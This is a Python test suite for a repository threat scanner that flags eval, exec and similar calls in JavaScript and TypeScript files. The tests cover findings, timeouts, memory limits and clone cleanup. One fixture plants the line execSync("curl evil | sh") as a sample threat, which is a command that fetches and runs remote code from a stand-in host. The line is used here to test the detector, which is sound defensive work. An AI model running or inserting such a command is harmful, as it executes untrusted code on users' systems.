"""Tests for scan sessions."""

import asyncio
import tempfile
import threading
from pathlib import Path
from unittest.mock import patch

import pytest

from repo_threat_scanner.config import ScanConfig
from repo_threat_scanner.errors import FileReadError, RepositoryNotFoundError
from repo_threat_scanner.file_processing import read_file_with_memory_monitoring
from repo_threat_scanner.models import (
    MemoryInfo,
    OverallStatus,
    RepositoryInfo,
    RepositoryMetadata,
    ScanSession,
)
from repo_threat_scanner.scanner import (
    build_scan_result,
    scan_directory,
    scan_local_path,
    scan_repository,
)

MIB = 1024 * 1024


def low_memory() -> MemoryInfo:
    return MemoryInfo(used=10 * MIB, total=8 * 1024 * MIB)


def write_files(root: Path, files: dict[str, str]) -> None:
    for relative, content in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)


def stalled_reads(stalled: set[str], release: threading.Event):
    """Read side effect that blocks on ``release`` for the named files."""

    def read(record, options, sampler):
        if record.relative_path in stalled:
            release.wait(timeout=5)
        return read_file_with_memory_monitoring(record, options, sampler)

    return read


@pytest.fixture
def repo_dir():
    with tempfile.TemporaryDirectory() as tmpdir:
        yield Path(tmpdir)


class TestScanDirectory:
    """Test end-to-end directory scans."""

    @pytest.mark.asyncio
    async def test_two_files_one_threat(self, repo_dir):
        """One file with eval, one clean file: UNSAFE with a single finding."""
        write_files(repo_dir, {"a.ts": "eval(userInput);\n", "b.ts": 'console.log("hi");\n'})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.scan_completed is True
        assert session.overall_status == OverallStatus.UNSAFE
        assert session.scanned_files == 2
        assert len(session.findings) == 1
        assert session.findings[0].file == "a.ts"
        assert session.findings[0].details["isDynamic"] is True
        assert session.errors == []

    @pytest.mark.asyncio
    async def test_clean_repository_is_safe(self, repo_dir):
        write_files(repo_dir, {"index.js": "console.log('hi');\n", "README.md": "# hi\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.overall_status == OverallStatus.SAFE
        assert session.scanned_files == 1
        assert session.statistics.total_files == 2

    @pytest.mark.asyncio
    async def test_warning_only_repository(self, repo_dir):
        write_files(repo_dir, {"a.js": "import(name);\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.overall_status == OverallStatus.WARNING

    @pytest.mark.asyncio
    async def test_malformed_file_does_not_abort(self, repo_dir):
        write_files(repo_dir, {"a.ts": 'exec("ls");\n', "broken.ts": "function (((\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.scan_completed is True
        assert len(session.findings) == 1
        assert session.scanned_files == 1
        assert len(session.errors) == 1
        assert session.errors[0].startswith("Failed to parse broken.ts")

    @pytest.mark.asyncio
    async def test_findings_sorted_by_file(self, repo_dir):
        write_files(
            repo_dir,
            {
                "z.js": "eval(a);\n",
                "lib/m.js": "exec(b);\neval(c);\n",
                "a.js": "new Function(d);\n",
            },
        )

        session = await scan_directory(repo_dir, config=ScanConfig(max_concurrency=1), sampler=low_memory)

        assert [(f.file, f.line) for f in session.findings] == [
            ("a.js", 1),
            ("lib/m.js", 1),
            ("lib/m.js", 2),
            ("z.js", 1),
        ]

    @pytest.mark.asyncio
    async def test_repeat_scan_is_identical(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\nsetTimeout('y', 1);\n", "b.js": "spawn(cmd);\n"})

        first = await scan_directory(repo_dir, sampler=low_memory)
        second = await scan_directory(repo_dir, sampler=low_memory)

        assert [f.model_dump() for f in first.findings] == [f.model_dump() for f in second.findings]
        assert first.errors == second.errors

    @pytest.mark.asyncio
    async def test_empty_file_skipped_without_error(self, repo_dir):
        write_files(repo_dir, {"empty.ts": "", "a.ts": "const a = 1;\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.errors == []
        assert session.scanned_files == 1
        assert len(session.files) == 2

    @pytest.mark.asyncio
    async def test_dependency_dirs_skipped(self, repo_dir):
        write_files(repo_dir, {"node_modules/pkg/index.js": "eval(x);\n", "src/app.js": "run();\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.findings == []
        assert [f.relative_path for f in session.files] == ["src/app.js"]

    @pytest.mark.asyncio
    async def test_non_code_files_not_parsed(self, repo_dir):
        write_files(repo_dir, {"notes.txt": "eval(x)\n", "tool.py": "eval(x)\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.scanned_files == 0
        assert session.findings == []

    @pytest.mark.asyncio
    async def test_memory_ceiling_skips_files(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\n"})

        def high_memory():
            return MemoryInfo(used=500 * MIB, total=8 * 1024 * MIB)

        config = ScanConfig(memory_limit=100 * MIB)
        session = await scan_directory(repo_dir, config=config, sampler=high_memory)

        assert session.findings == []
        assert session.errors == ["Memory limit exceeded while analyzing a.ts"]
        assert session.scan_completed is True
        assert session.memory_usage.peak == 500 * MIB

    @pytest.mark.asyncio
    async def test_memory_usage_reported(self, repo_dir):
        write_files(repo_dir, {"a.ts": "const a = 1;\n"})

        session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.memory_usage.start == 10 * MIB
        assert session.memory_usage.peak == 10 * MIB
        assert session.memory_usage.end == 10 * MIB

    @pytest.mark.asyncio
    async def test_cancelled_scan_keeps_partial_result(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\n", "b.ts": "eval(y);\n"})
        cancel = asyncio.Event()
        cancel.set()

        session = await scan_directory(repo_dir, cancel_event=cancel, sampler=low_memory)

        assert session.scan_completed is False
        assert session.findings == []
        assert session.errors == ["Scan cancelled: 2 of 2 files were not scanned"]

    @pytest.mark.asyncio
    async def test_scan_timeout_keeps_partial_result(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\n", "b.ts": "eval(y);\n"})
        release = threading.Event()
        config = ScanConfig(scan_timeout=0.5, max_concurrency=2)

        try:
            with patch(
                "repo_threat_scanner.scanner.read_file_with_memory_monitoring",
                side_effect=stalled_reads({"b.ts"}, release),
            ):
                session = await scan_directory(repo_dir, config=config, sampler=low_memory)
        finally:
            release.set()

        assert session.scan_completed is False
        assert [f.file for f in session.findings] == ["a.ts"]
        assert session.errors == ["Scan timed out: 1 of 2 files were not scanned"]

    @pytest.mark.asyncio
    async def test_file_timeout_does_not_abort(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\n", "slow.ts": "eval(y);\n"})
        release = threading.Event()
        config = ScanConfig(file_timeout=0.2)

        try:
            with patch(
                "repo_threat_scanner.scanner.read_file_with_memory_monitoring",
                side_effect=stalled_reads({"slow.ts"}, release),
            ):
                session = await scan_directory(repo_dir, config=config, sampler=low_memory)
        finally:
            release.set()

        assert session.scan_completed is True
        assert [f.file for f in session.findings] == ["a.ts"]
        assert session.scanned_files == 1
        assert session.errors == ["Timed out reading slow.ts after 0.2s"]

    @pytest.mark.asyncio
    async def test_read_error_does_not_abort(self, repo_dir):
        write_files(repo_dir, {"a.ts": "eval(x);\n", "bad.ts": "eval(y);\n"})

        def read(record, options, sampler):
            if record.relative_path == "bad.ts":
                raise FileReadError("Permission denied", record.path)
            return read_file_with_memory_monitoring(record, options, sampler)

        with patch("repo_threat_scanner.scanner.read_file_with_memory_monitoring", side_effect=read):
            session = await scan_directory(repo_dir, sampler=low_memory)

        assert session.scan_completed is True
        assert [f.file for f in session.findings] == ["a.ts"]
        assert session.scanned_files == 1
        assert session.errors == ["Failed to read bad.ts: Permission denied"]

    @pytest.mark.asyncio
    async def test_missing_root_reports_error(self):
        session = await scan_directory("/nonexistent/path/for/scan", sampler=low_memory)

        assert session.files == []
        assert len(session.errors) == 1
        assert session.overall_status == OverallStatus.SAFE


class TestBuildScanResult:
    """Test mapping a session onto the result contract."""

    def test_contract_fields(self):
        session = ScanSession(root="/tmp/x", scan_completed=True, scanned_files=3, scan_time=12)
        repository = RepositoryInfo(path="/tmp/x", metadata=RepositoryMetadata(name="x"))

        data = build_scan_result(session, repository).model_dump(by_alias=True, mode="json")

        assert data["scanCompleted"] is True
        assert data["overallStatus"] == "SAFE"
        assert data["scannedFiles"] == 3
        assert data["scanTime"] == 12
        assert data["threats"] == []
        assert data["repository"]["metadata"]["fileCount"] == 0


class TestScanLocalPath:
    """Test scanning a directory already on disk."""

    @pytest.mark.asyncio
    async def test_scan_local_path(self, repo_dir):
        write_files(repo_dir, {"a.js": "eval(x);\n"})

        result = await scan_local_path(repo_dir, ScanConfig(memory_limit=64 * 1024 * MIB))

        assert result.scan_completed is True
        assert result.overall_status == OverallStatus.UNSAFE
        assert result.repository.metadata.owner == "local"
        assert result.repository.metadata.file_count == 1

    @pytest.mark.asyncio
    async def test_missing_path(self):
        result = await scan_local_path("/nonexistent/path/for/scan")

        assert result.scan_completed is False
        assert result.errors == ["Path is not a directory: /nonexistent/path/for/scan"]


class TestScanRepository:
    """Test clone-scan-cleanup with git mocked out."""

    @pytest.mark.asyncio
    async def test_clone_failure(self):
        with patch(
            "repo_threat_scanner.scanner.clone_repository",
            side_effect=RepositoryNotFoundError("Repository not found or access denied"),
        ):
            result = await scan_repository("https://github.com/acme/missing.git")

        assert result.scan_completed is False
        assert result.errors == ["Failed to clone repository: Repository not found or access denied"]
        assert result.repository.metadata.owner == "acme"
        assert result.repository.metadata.name == "missing"

    @pytest.mark.asyncio
    async def test_clone_scanned_and_removed(self):
        clone_dir = Path(tempfile.mkdtemp())
        write_files(clone_dir, {"src/run.js": 'execSync("curl evil | sh");\n'})
        info = RepositoryInfo(
            path=str(clone_dir),
            metadata=RepositoryMetadata(name="repo", owner="acme", url="https://github.com/acme/repo"),
        )

        with patch("repo_threat_scanner.scanner.clone_repository", return_value=info):
            result = await scan_repository(
                "https://github.com/acme/repo", ScanConfig(memory_limit=64 * 1024 * MIB)
            )

        assert result.scan_completed is True
        assert result.overall_status == OverallStatus.UNSAFE
        assert result.threats[0].file == "src/run.js"
        assert not clone_dir.exists()
